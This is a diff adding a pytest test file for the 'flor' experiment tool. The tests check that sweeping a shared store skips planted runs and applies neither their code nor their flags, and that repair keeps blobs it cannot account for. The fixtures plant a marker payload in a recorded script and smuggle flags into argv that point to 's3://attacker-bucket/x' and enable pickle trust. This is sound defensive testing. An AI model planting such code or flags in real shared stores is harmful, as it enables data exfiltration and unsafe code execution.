@@ -1,0 +1,221 @@
+"""The store stays shut (issue #41): a sweep runs only code and arguments the user trusts.
+
+Attacks made as someone who can write to a shared store: a run planted beside the user's
+own with a payload in its recorded script and flor's own flags in its recorded argv. Each
+test asserts the attack failed on a real recording, with real ``flor`` commands in subprocesses.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from helpers import Runner
+
+PAYLOAD = "open('PWNED', 'w').close()  # planted\n"
+PLANTED_FLAGS = ["--flor_spool", "s3://attacker-bucket/x", "--flor_trust_pickles"]
+
+
+@pytest.fixture(scope="module")
+def recorded(tmp_path_factory) -> Runner:  # noqa: ANN001
+    r = Runner(tmp_path_factory.mktemp("trust"))
+    r.script(dest="train.py")
+    r.run(r.cwd / "train.py", "--epochs", "2", "--flor", "shared")
+    return r
+
+
+def _fresh(recorded: Runner, tmp_path: Path) -> tuple[Runner, str]:
+    r = Runner(tmp_path)
+    shutil.copytree(recorded.home, r.home)
+    shutil.copytree(recorded.cwd / "florconfig", r.cwd / "florconfig")
+    shutil.copy(recorded.cwd / "train.py", r.cwd / "train.py")
+    [run] = [p.name for p in (r.home / "shared" / "runs").iterdir()]
+    return r, run
+
+
+def _plant(r: Runner, run: str, *, sign_with: bytes | None = None) -> str:
+    """A run planted beside ``run``: its recorded script runs a payload, its argv holds flor's
+    flags; its signature is the victim's run's (which no longer matches), or one made with
+    ``sign_with``, a key the attacker holds."""
+    from flor.store.trust import key_id, run_bytes
+    import hashlib
+    import hmac
+
+    planted = run[:-6] + "ffffff"
+    src = r.home / "shared" / "runs" / run
+    dst = r.home / "shared" / "runs" / planted
+    shutil.copytree(src, dst)
+    source = dst / "source" / "train.py"
+    source.write_text(source.read_text().replace("import flor\n", "import flor\n" + PAYLOAD, 1))
+    meta = json.loads((dst / "run.json").read_text())
+    meta["run"] = planted
+    meta["argv"] = [*meta["argv"], *PLANTED_FLAGS]
+    if sign_with is not None:
+        meta["argv"] = meta["argv"][: -len(PLANTED_FLAGS)]
+        sha = hashlib.sha256(source.read_bytes()).hexdigest()
+        meta["signature"] = {"key": key_id(sign_with),
+                             "mac": hmac.new(sign_with, run_bytes(meta["argv"], sha), hashlib.sha256).hexdigest()}
+    (dst / "run.json").write_text(json.dumps(meta))
+    return planted
+
+
+def _sweep(r: Runner, *extra: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "flor", "replay", "shared", *extra, "--workers", "1", "--",
+                           sys.executable, "train.py"], cwd=r.cwd, env=r.env(), capture_output=True, text=True,
+                          timeout=300)
+
+
+def test_a_planted_run_is_skipped_its_review_shows_all_and_the_opt_in_runs_it_without_flor_flags(
+        recorded: Runner, tmp_path: Path) -> None:
+    r, run = _fresh(recorded, tmp_path)
+    planted = _plant(r, run)
+    proc = _sweep(r, "--all")
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert not (r.cwd / "PWNED").exists(), "the planted script ran"
+    assert f"flor: run {planted} skipped: its recorded script and arguments are not trusted" in proc.stderr
+    assert "--trust " in proc.stderr and "trusted-keys" in proc.stderr
+    rows = {line.split()[0]: line for line in proc.stdout.splitlines() if line.startswith((run, planted))}
+    assert "verified exact" in rows[run] and "skipped" in rows[planted]  # the user's own, signed run replays
+
+    review = r.flor("replay", "shared", "--runs", planted, "--dry-run", "--", sys.executable, "train.py", check=False)
+    out = review.stdout
+    assert "-" + PAYLOAD.rstrip("\n") in out  # the payload, in the diff against today's script
+    assert "--flor_spool s3://attacker-bucket/x --flor_trust_pickles" in out  # the full argv
+    assert "flor's own flags in the recorded argv, never applied" in out
+    token = out.split("--trust ")[1].split()[0]
+    assert token.startswith(planted + ":") and "UNSIGNED" in out
+
+    trusted = _sweep(r, "--runs", planted, "--trust", token)
+    assert trusted.returncode == 0, trusted.stdout + trusted.stderr
+    assert (r.cwd / "PWNED").exists()  # the user's opt-in, for this run as reviewed
+    assert "FL416" in trusted.stderr
+    [record] = (r.home / "shared" / "runs" / planted / "logs").glob("launch-*")
+    command = json.loads(record.read_text())["command"]
+    assert "--flor_spool" not in command and "--flor_trust_pickles" not in command, command
+    assert "FL410" not in trusted.stderr and "FL404" not in trusted.stderr  # no spool was tried
+
+    (r.cwd / "PWNED").unlink()
+    meta = r.home / "shared" / "runs" / planted / "run.json"  # changed after the review: the token no longer fits
+    meta.write_text(meta.read_text().replace('"--epochs", "2"', '"--epochs", "1"'))
+    again = _sweep(r, "--runs", planted, "--trust", token)
+    assert again.returncode == 1 and not (r.cwd / "PWNED").exists(), again.stdout + again.stderr
+
+
+def test_a_run_signed_by_another_key_runs_only_once_that_key_is_trusted(recorded: Runner, tmp_path: Path) -> None:
+    import secrets
+
+    r, run = _fresh(recorded, tmp_path)
+    colleague = secrets.token_bytes(32)
+    planted = _plant(r, run, sign_with=colleague)
+    proc = _sweep(r, "--runs", planted)
+    assert proc.returncode == 1 and not (r.cwd / "PWNED").exists(), proc.stdout + proc.stderr
+    assert "signed with a key you do not trust" in proc.stderr
+    folder = r.cwd / "florconfig" / "trusted-keys"
+    folder.mkdir()
+    (folder / "colleague").write_text(colleague.hex() + "\n")
+    (folder / "colleague").chmod(0o666)  # others may write it: not trusted
+    proc = _sweep(r, "--runs", planted)
+    assert proc.returncode == 1 and not (r.cwd / "PWNED").exists(), proc.stdout + proc.stderr
+    (folder / "colleague").chmod(0o600)
+    proc = _sweep(r, "--runs", planted)
+    assert proc.returncode == 0 and (r.cwd / "PWNED").exists(), proc.stdout + proc.stderr
+
+
+# -- repair deletes nothing it cannot account for ---------------------------------------------------------
+
+NOBODY = 65534
+
+
+#: run as nobody, who cannot reach this interpreter under /root: everything the commands import is
+#: imported first, as root, then the process becomes nobody and runs the command
+AS_NOBODY = """
+import os, sys, warnings
+sys.argv = ["flor", *sys.argv[1:]]
+import json, difflib, numpy
+import flor.cli, flor.cli.verify, flor.cli.analysis, flor.store.check, flor.store.lock, flor.analysis.show
+import flor.analysis.frame, flor.analysis.output, flor.analysis.metrics, flor.store.experiment, locale, fcntl
+flor.cli.build_parser()
+os.setgroups([]); os.setgid(%d); os.setuid(%d)
+sys.exit(flor.cli.main())
+"""
+
+
+def _as_nobody(r: Runner, *args: str) -> subprocess.CompletedProcess:
+    """``flor ARGS`` run as another user (nobody), who cannot read what root keeps private."""
+    env = {**r.env(), "HOME": "/nonexistent"}
+    return subprocess.run([sys.executable, "-c", AS_NOBODY % (NOBODY, NOBODY), *args], cwd=r.cwd, env=env,
+                          capture_output=True, text=True, timeout=120)
+
+
+def _blobs_of(run_dir: Path) -> set[str]:
+    from flor.store.experiment import blob_hashes
+
+    out: set[str] = set()
+    for manifest in (run_dir / "checkpoints").rglob("*.json"):
+        blob_hashes(json.loads(manifest.read_text()), out)
+    return out
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() != 0,
+                    reason="needs root to run the check as a second user (nobody)")
+def test_repair_by_a_user_who_cannot_read_a_run_removes_none_of_its_blobs(tmp_path: Path) -> None:
+    import os
+    import tempfile
+
+    shared = Path(tempfile.mkdtemp(prefix="flor-shared-"))  # pytest's tmp_path is root's alone
+    try:
+        os.chmod(shared, 0o755)
+        r = Runner(shared)
+        r.script(dest="train.py")
+        for seed in ("0", "1"):
+            r.run(r.cwd / "train.py", "--epochs", "1", "--seed", seed, "--flor", "team")
+        for p in [shared, *shared.rglob("*")]:
+            os.lchown(p, NOBODY, NOBODY)
+        runs = sorted((r.home / "team" / "runs").iterdir())
+        private = runs[1]
+        for p in [private, *private.rglob("*")]:
+            os.lchown(p, 0, 0)
+        private.chmod(0o700)
+        theirs = _blobs_of(private) - _blobs_of(runs[0])
+        assert theirs
+        for h in theirs:  # old enough for any grace period
+            os.utime(r.home / "team" / "objects" / h[:2] / h[2:], (1e9, 1e9))
+
+        listed = _as_nobody(r, "ls", "team")
+        assert private.name in listed.stderr and "FL417" in listed.stderr, listed.stdout + listed.stderr
+        checked = _as_nobody(r, "verify", "team")
+        assert checked.returncode == 1 and f"runs/{private.name}: cannot be read" in checked.stdout, checked.stdout
+        fixed = _as_nobody(r, "verify", "team", "--repair", "--grace", "0")
+        assert "FL418" in fixed.stdout and fixed.returncode == 1, fixed.stdout + fixed.stderr
+        assert all((r.home / "team" / "objects" / h[:2] / h[2:]).exists() for h in theirs), fixed.stdout
+    finally:
+        shutil.rmtree(shared, ignore_errors=True)
+
+
+def test_repair_waits_for_no_recording_and_keeps_young_blobs(recorded: Runner, tmp_path: Path) -> None:
+    import os
+
+    from flor.store import BlobStore, LocalBackend
+    from flor.store.lock import release, shared
+
+    r, _ = _fresh(recorded, tmp_path)
+    root = r.home / "shared"
+    orphan, _ = BlobStore(LocalBackend(root)).put(b"a recording's blob, its manifest not yet written")
+    path = root / "objects" / orphan[:2] / orphan[2:]
+    held = shared(root, wait=0.0)  # what a recording holds while it runs
+    assert held is not None
+    try:
+        busy = r.flor("verify", "shared", "--repair", "--grace", "0", check=False)
+    finally:
+        release(held)
+    assert busy.returncode == 1 and "FL418" in busy.stdout and path.exists(), busy.stdout
+    young = r.flor("verify", "shared", "--repair", check=False)
+    assert "kept 1 unreferenced blob(s) younger than" in young.stdout and path.exists(), young.stdout
+    os.utime(path, (1e9, 1e9))
+    old = r.flor("verify", "shared", "--repair", check=False)
+    assert "removed unreferenced blob" in old.stdout and not path.exists(), old.stdout
